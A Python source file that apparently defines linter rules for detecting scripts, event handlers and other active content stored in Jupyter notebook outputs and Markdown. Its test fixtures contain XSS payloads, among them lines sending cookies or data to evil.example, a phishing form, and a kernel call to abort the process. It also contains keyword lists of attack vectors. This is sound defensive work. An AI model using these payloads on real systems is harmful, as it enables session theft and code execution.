"""Scripts and other content that acts, stored in outputs and in Markdown."""

from __future__ import annotations

from collections.abc import Iterator

from ...sdk import (
    Applicability,
    Confidence,
    Example,
    Match,
    Part,
    Place,
    Proposal,
    Segment,
    Severity,
    Span,
    TextEdit,
    clear_output,
    regex,
    rule,
)
from .acting import Act, acts, is_script
from .mute import is_mute

_MOST = 50  # acts of one output that are looked for in its cell
_TAGS = regex(r"\A<[^>]{0,200}>|</\w{1,10}>\Z")
# The first letters of the handlers that browsers know: few, for each is looked for in every text.
_HANDLERS = (
    *(
        "onabort",
        "onafter",
        "onani",
        "onaux",
        "onbefore",
        "onbegin",
        "onblur",
        "oncan",
        "onchange",
        "onclick",
        "onclose",
    ),
    *("oncontext", "oncopy", "oncue", "oncut", "ondblclick", "ondrag", "ondrop", "ondur", "onempt", "onend", "onerror"),
    *("onfinish", "onfocus", "onform", "onfull", "ongot", "onhash", "oninput", "oninvalid", "onkey", "onlanguage"),
    *("onload", "onlost", "onmessage", "onmouse", "onoffline", "ononline", "onpage", "onpaste", "onpause", "onplay"),
    *("onpointer", "onpop", "onprogress", "onrate", "onrepeat", "onreset", "onresize", "onscroll", "onsearch", "onsec"),
    *("onseek", "onselect", "onshow", "onslot", "onstalled", "onstart", "onstorage", "onsubmit", "onsuspend", "ontime"),
    *("ontoggle", "ontouch", "ontransition", "onunhandled", "onunload", "onvolume", "onwaiting", "onwebkit", "onwheel"),
)
_SCREEN = (
    *("<script", ":script", "javascript", "vbscript", "srcdoc", "<iframe", "<object", "<embed", "<form", "<meta"),
    *("<base", "<animate", "<set", "expression(", "-moz-binding", "text/html", "formaction", "&#", "&tab", "&newline"),
    *("script:", "j\t", "ja\t", "jav\t", "java\t", "j\n", "ja\n", "jav\n", "java\n", "java\r\n"),
)


@rule(
    id="active-content-in-output",
    on=Segment,
    stored=True,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    title="Stored content that runs or acts when it is shown",
    cwe=[79, 829],
    atlas=["AML.T0011"],
    screen=(*_SCREEN, *_HANDLERS),
    caseless=True,
    bad=[
        Example("# %% [markdown]\nHello «<script>alert(1)</script>» you", fixed="# %% [markdown]\nHello  you"),
        Example("# %% [markdown]\n<img src=x« onerror=alert(1)»>", fixed="# %% [markdown]\n<img src=x>"),
        "# %% [markdown]\n<svg/«OnLoad=alert(1)»>",
        "# %% [markdown]\n[results](«javascript:alert(document.domain)»)",
        "# %% [markdown]\n[results][1]\n\n[1]: «jAvascript:alert(1)»",
        '# %% [markdown]\n<a« href="java&#x09;script:alert(1)"»>more</a>',
        '# %% [markdown]\n<iframe« srcdoc="&lt;img src=x onerror=alert(1)&gt;"»></iframe>',
        '# %% [markdown]\n<object« data="data:text/html,<script>alert(1)</script>"»></object>',
        '# %% [markdown]\n<b title="\n\n«<script src=//evil.example/x.js></script>»\n\n">',
        '# %% [markdown]\n<x "><p« onmouseover="alert(1)"»>',
        Example(
            "display(df)\n# %% [output text/html]\n<table><tr><td>1</td></tr></table>"
            "«<script>new Image().src='https://evil.example/?'+document.cookie</script>»",
            fixed="display(df)\n# %% [output text/html]\n<table><tr><td>1</td></tr></table>",
        ),
        'show()\n# %% [output text/html]\n«<script>Jupyter.notebook.kernel.execute("import os; os.abort()")</script>»',
        "show()\n# %% [output text/html]\n«<script>fetch('/api/contents').then(r => r.json()).then(f)</script>»",
        "show()\n# %% [output text/html]\n«<SCRIPT>eval(atob('YWxlcnQoMSk='))</SCRIPT>»",
        'show()\n# %% [output text/html]\n<form« action="https://evil.example/login"»><input type=password></form>',
        'show()\n# %% [output text/html]\n<meta« http-equiv=refresh»  content="0;url=https://evil.example">',
        'show()\n# %% [output image/svg+xml]\n<svg><a><animate« attributeName="href"» to="javascript:f(1)"/></a></svg>',
        "# %% [raw]\n«<script>parent.document.body.remove()</script>»",
        # What a cell shows that can show nothing was put there by something else.
        "x = 1\n# %% [output text/html]\n«<script>alert(1)</script>»",
        # A script of no known library is told of, no more.
        "HTML(page)\n# %% [output text/html]\n«<script>draw([1, 2])</script>»",
    ],
    ok=[
        "# %% [markdown]\nWrite `<script>alert(1)</script>` and see:\n\n```html\n<img src=x onerror=alert(1)>\n```",
        "# %% [markdown]\nIn HTML\n\n    <script>alert(1)</script>\n\nis a script; if x < 3 and onerror = 1",
        '# %% [markdown]\n<img src="https://example.com/a.png" alt="onload=1"> [a](https://example.com/javascript:b)',
        "# %% [markdown]\n<details><summary>More</summary>text</details> <b title='<script>'>x</b>",
        "# %% [markdown]\n<!-- <script>alert(1)</script> -->",
        "df\n# %% [output text/html]\n<style scoped>.dataframe td {color: red}</style><table border=1></table>",
        "df\n# %% [output text/html]\n<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>",
        "print(x)\n# %% [output]\n<script>alert(1)</script>",
        "x\n# %% [output text/plain]\n<script>alert(1)</script>",
        'show()\n# %% [output text/html]\n<script type=\'application/json\'>{"a": "document.cookie"}</script>',
        'show()\n# %% [output text/html]\n<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
        "html = '<script>alert(document.cookie)</script>'",
    ],
)
def active_content(segment: Segment) -> Iterator[Match]:
    """A notebook that somebody opens should do nothing by itself, and viewers have failed to stop such content before.
    Scripts in an output or in Markdown can read what the server keeps, or run code in your name.

    Remove it, and run the cell again if you want its output. Look at where the notebook came from."""
    if not is_script(segment) and segment.part is not Part.NOTEBOOK_METADATA:  # stored widgets have their own rule
        yield from _judged(segment)


@rule(
    id="active-script-output",
    form_of="active-content-in-output",
    on=Segment,
    stored=True,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    title="Output that is a script",
    cwe=[79, 829],
    atlas=["AML.T0011"],
    guard=is_script,
    bad=[
        "show()\n# %% [output application/javascript]\n«fetch('https://evil.example', {method: 'POST', body: data})»",
        "show()\n# %% [output text/javascript]\n«window['ev' + 'al'](text)»",
        Example(
            "x = 1\n# %% [output application/javascript]\n«draw([1, 2])»\n# %% [output]\n1",
            fixed="x = 1\n# %% [output]\n1",
        ),
    ],
    ok=[
        "%%javascript\ndraw()",
        "show()\n# %% [output text/plain]\ndocument.cookie",
        'show()\n# %% [output application/json]\n{"a": "document.cookie"}',
    ],
)
def active_script_output(segment: Segment) -> Iterator[Match]:
    """In a trusted notebook the script of such an output runs as soon as the notebook is opened, before any cell does.
    It can read what the server keeps, or run code in your name.

    Clear the output, and read the cell before you run it again."""
    yield from _judged(segment)


def _judged(segment: Segment) -> Iterator[Match]:
    """The one match of a text for all that acts in it, as bad as the worst of that."""
    found = list(acts(segment))
    if not found:
        return
    if is_mute(segment.cell) and segment.mime:
        found = [act.raised(Severity.MEDIUM, "that its cell cannot have made") for act in found]
    found = [act.lowered(Severity.LOW) if _is_shown(segment, act) else act for act in found[:_MOST]] + found[_MOST:]
    worst = max(found, key=lambda act: act.severity.rank)
    others = tuple(Place(segment.pointer, act.span) for act in found if act is not worst and act.severity.rank > 1)
    yield Match(
        worst.span,
        worst.message,
        worst.severity,
        related=others[:20],
        proposals=tuple(_proposals(segment, found, worst)),
    )


def _is_shown(segment: Segment, act: Act) -> bool:
    """Whether the cell of an output shows the very script, which is not so bad that this does not count."""
    if segment.cell is None or not segment.mime or act.severity is not Severity.MEDIUM:
        return False
    script = _TAGS.sub("", segment.raw[slice(*act.span)]).strip()
    return len(script) > 20 and script in segment.cell.source


def _proposals(segment: Segment, found: list[Act], worst: Act) -> Iterator[Proposal]:
    whole = Span(0, len(segment.raw))
    edits = [TextEdit(span) for span in _apart(act.span for act in found if act.severity.rank > 0)]
    is_library = segment.mime and worst.severity.rank < Severity.MEDIUM.rank  # a chart without its script is nothing
    if edits and not is_library and not (segment.mime and any(edit.span == whole for edit in edits)):
        yield Proposal("Remove what acts", Applicability.SAFE, tuple(edits))
    yield from clear_output(segment)


def _apart(spans: Iterator[Span]) -> Iterator[Span]:
    """The spans without those that lie in another one."""
    end = -1
    for span in sorted(spans, key=lambda s: (s.start, -s.end)):
        if span.start >= end:
            yield span
            end = span.end
